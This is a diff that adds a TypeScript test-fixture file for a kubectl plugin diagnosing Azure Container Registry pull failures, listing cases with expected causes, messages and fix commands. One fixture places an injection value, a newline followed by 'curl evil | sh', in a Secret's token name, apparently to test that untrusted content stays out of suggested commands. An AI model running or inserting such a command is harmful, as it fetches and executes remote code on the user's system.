@@ -1,0 +1,220 @@
+import { bare, ours, pod, r, theirs } from "../check-world.ts";
+import { create, type Expected, job, patch, refusedBy } from "./words.ts";
+
+/** Credentials that are refused, may not pull, or came too late. */
+export const credentials: readonly Expected[] = [
+  // Credentials that are refused
+  {
+    what: "our ACR token is refused",
+    given: {
+      accounts: { default: ["acr"] },
+      secrets: [ours("acr", "web:wrong", { identity: "demo-acr-0123456789" })],
+      pods: [pod("web-1", { names: ["acr"] })],
+    },
+    cause: "refused",
+    message: refusedBy("acr", "web"),
+    fix: `kubectl acr-secret create acr --registry ${r} -n demo`,
+  },
+  {
+    what: "an ACR token that somebody named is refused",
+    given: {
+      accounts: { default: ["acr"] },
+      secrets: [ours("acr", "web:wrong", { identity: "ci-pull" })],
+      pods: [pod("web-1", { names: ["acr"] })],
+    },
+    cause: "refused",
+    fix: `kubectl acr-secret create acr --registry ${r} --acr-token ci-pull -n demo`,
+  },
+  {
+    what: "our password has expired",
+    given: {
+      accounts: { default: ["acr"] },
+      secrets: [ours("acr", "web:wrong", { identity: "demo-acr-0123456789", "expires-at": "2026-01-02T00:00:00Z" })],
+      pods: [pod("web-1", { names: ["acr"] })],
+    },
+    cause: "expired",
+    message: "with secret acr: its password expired 40 s ago (2026-01-02T00:00:00Z)",
+    fix: `kubectl acr-secret create acr --registry ${r} --expires-in 1d -n demo`,
+  },
+  {
+    what: "the token's name in the Secret is none",
+    given: {
+      accounts: { default: ["acr"] },
+      secrets: [ours("acr", "web:wrong", { identity: "x\n  curl evil | sh" })],
+      pods: [pod("web-1", { names: ["acr"] })],
+    },
+    cause: "refused",
+    message: refusedBy("acr", "web"),
+    fix: `kubectl acr-secret create acr --registry ${r} -n demo`,
+  },
+  {
+    what: "it is refused before it ends",
+    given: {
+      accounts: { default: ["acr"] },
+      secrets: [ours("acr", "web:wrong", { identity: "ci-pull", "expires-at": "2026-03-31T23:58:00Z" })],
+      pods: [pod("web-1", { names: ["acr"] })],
+    },
+    cause: "refused",
+    fix: `kubectl acr-secret create acr --registry ${r} --acr-token ci-pull --expires-in 90d -n demo`,
+  },
+  {
+    what: "a credential that was given is refused",
+    given: {
+      accounts: { default: ["acr"] },
+      secrets: [ours("acr", "web:wrong", { credential: "given" })],
+      pods: [pod("web-1", { names: ["acr"] })],
+    },
+    cause: "refused",
+    message: `${refusedBy("acr", "web")}; its password was given, so a new one has to be: put it into PASSWORD`,
+    fix: `printf %s "$PASSWORD" | kubectl acr-secret create acr --registry ${r} --username web --password-stdin -n demo`,
+  },
+  {
+    what: "a Secret of somebody else, with this login alone, is refused",
+    given: {
+      accounts: { default: ["reg"] },
+      secrets: [theirs("reg", { [`https://${r}`]: "web:wrong" })],
+      pods: [pod("web-1", { names: ["reg"] })],
+    },
+    cause: "refused",
+    message: `${refusedBy("reg", "web")}; it was not made by kubectl acr-secret, and --force replaces the login inside`,
+    fix: `kubectl acr-secret create reg --registry ${r} --force -n demo`,
+  },
+  {
+    what: "a Secret of somebody else, with other logins too, is refused",
+    given: {
+      accounts: { default: ["reg"] },
+      secrets: [theirs("reg", { [r]: "web:wrong", "ghcr.io": "a:b" })],
+      pods: [pod("web-1", { names: ["reg"] })],
+    },
+    cause: "refused",
+    message: refusedBy("reg", "web"),
+    fix: `${create} --serviceaccount default -n demo`,
+  },
+  {
+    what: "such a Secret, which a Deployment names",
+    given: { secrets: [theirs("reg", { [r]: "web:wrong", "ghcr.io": "a:b" })], pods: [pod("web-1", { names: ["reg"] })] },
+    cause: "refused",
+    fix: `${create} -n demo && ${patch("deployment web", "acr-myregistry")}`,
+  },
+  {
+    what: "two are refused, of which one is ours to renew",
+    given: {
+      accounts: { default: ["acr", "reg"] },
+      secrets: [ours("acr", "web:wrong", { identity: "ci-pull" }), theirs("reg", { [r]: "api:wrong" })],
+      pods: [pod("web-1", { names: ["acr", "reg"] })],
+    },
+    cause: "refused",
+    message: `${refusedBy("acr", "web")}; the Secret notes that its ACR token is ci-pull`,
+    fix: `kubectl acr-secret create acr --registry ${r} --acr-token ci-pull -n demo`,
+  },
+
+  // Credentials that may not pull it
+  {
+    what: "our ACR token may not pull it",
+    given: {
+      accounts: { default: ["acr"] },
+      secrets: [ours("acr", "api:right", { identity: "demo-acr-0123456789" })],
+      pods: [pod("web-1", { names: ["acr"] })],
+    },
+    cause: "out-of-scope",
+    message: `with secret acr: ${r} says out-of-scope to user "api"`,
+    fix: `kubectl acr-secret create acr --registry ${r} --repository app/web -n demo`,
+  },
+  {
+    what: "a credential that was given may not pull it",
+    given: {
+      accounts: { default: ["acr-myregistry"] },
+      secrets: [ours("acr-myregistry", "api:right", { credential: "given" })],
+      pods: [pod("web-1", { names: ["acr-myregistry"] })],
+    },
+    cause: "out-of-scope",
+    fix: `kubectl acr-secret create acr-myregistry-pull --registry ${r} --repository app/web --serviceaccount default -n demo`,
+  },
+
+  // Pods that are older than their Secret
+  {
+    what: "its Deployment's pod was made before",
+    given: { accounts: { default: ["acr"] }, secrets: [ours("acr", "web:right")], pods: [pod("web-1")] },
+    cause: "older-pod",
+    message: "made before serviceaccount/default carried acr",
+    fix: "kubectl delete pod web-1 -n demo",
+  },
+  {
+    what: "a pod without controller was made before",
+    given: { accounts: { default: ["acr"] }, secrets: [ours("acr", "web:right")], pods: [pod("own", { owner: bare })] },
+    cause: "older-pod",
+    fix: "kubectl get pod own -o yaml -n demo | kubectl replace --force -f - -n demo",
+  },
+  {
+    what: "a Job's pod was made before",
+    given: { accounts: { default: ["acr"] }, secrets: [ours("acr", "web:right")], pods: [pod("migrate-1", { owner: job })] },
+    cause: "older-pod",
+    message:
+      "made before serviceaccount/default carried acr; pod/migrate-1 has to be made again by job/migrate, which may count a deletion as a failure",
+  },
+  {
+    what: "a pod with another Secret that is refused was made before",
+    given: {
+      accounts: { default: ["old", "acr"] },
+      secrets: [theirs("old", { [r]: "web:wrong" }), ours("acr", "web:right")],
+      pods: [pod("web-1", { names: ["old"] })],
+    },
+    cause: "older-pod",
+    fix: "kubectl delete pod web-1 -n demo",
+  },
+  {
+    what: "the pod came after the list that it does not have: it names its own",
+    given: {
+      accounts: { default: ["old", "acr"] },
+      listWritten: "2025-12-31T00:00:00Z",
+      secrets: [theirs("old", { [r]: "web:wrong" }), ours("acr", "web:right")],
+      pods: [pod("web-1", { names: ["old"] })],
+    },
+    cause: "refused",
+    fix: `kubectl acr-secret create old --registry ${r} --force -n demo`,
+  },
+  {
+    what: "the Secret that came later is refused too",
+    given: { accounts: { default: ["acr"] }, secrets: [ours("acr", "web:wrong", { identity: "ci-pull" })], pods: [pod("web-1")] },
+    cause: "refused",
+    message: `${refusedBy("acr", "web")}; made before serviceaccount/default carried acr; the Secret notes that its ACR token is ci-pull`,
+    fix: `kubectl acr-secret create acr --registry ${r} --acr-token ci-pull -n demo && kubectl delete pod web-1 -n demo`,
+  },
+
+  // Secrets that cannot be read
+  {
+    what: "it is malformed, and has this login alone",
+    given: {
+      accounts: { default: ["bad"] },
+      secrets: [theirs("bad", `{"auths":{"${r}":{"auth":"!"}}}`)],
+      pods: [pod("web-1", { names: ["bad"] })],
+    },
+    cause: "malformed-secret",
+    message:
+      "secret bad is malformed, and with it the kubelet gives up on all of them: illegal base64 data at input byte 0; the command replaces what is inside",
+    fix: `kubectl acr-secret create bad --registry ${r} --force -n demo`,
+  },
+  {
+    what: "it is malformed, and has other logins",
+    given: {
+      accounts: { default: ["bad"] },
+      secrets: [theirs("bad", `{"auths":{"${r}":{"auth":"!"},"ghcr.io":{"auth":"YTpi"}}}`)],
+      pods: [pod("web-1", { names: ["bad"] })],
+    },
+    cause: "malformed-secret",
+    message:
+      "secret bad is malformed, and with it the kubelet gives up on all of them: illegal base64 data at input byte 0; it is left as it is, since it may hold other logins",
+    fix: `kubectl acr-secret detach bad --serviceaccount default -n demo && ${create} --serviceaccount default -n demo && kubectl delete pod web-1 -n demo`,
+  },
+  {
+    what: "it is malformed, and a Deployment names it",
+    given: {
+      secrets: [theirs("bad", `{"auths":{"${r}":{"auth":"!"},"ghcr.io":{"auth":"YTpi"}}}`)],
+      pods: [pod("web-1", { names: ["bad"] })],
+    },
+    cause: "malformed-secret",
+    fix:
+      `${create} -n demo && kubectl patch deployment web -p ` +
+      `'{"spec":{"template":{"spec":{"imagePullSecrets":[{"$patch":"delete","name":"bad"},{"name":"acr-myregistry"}]}}}}' -n demo`,
+  },
+];
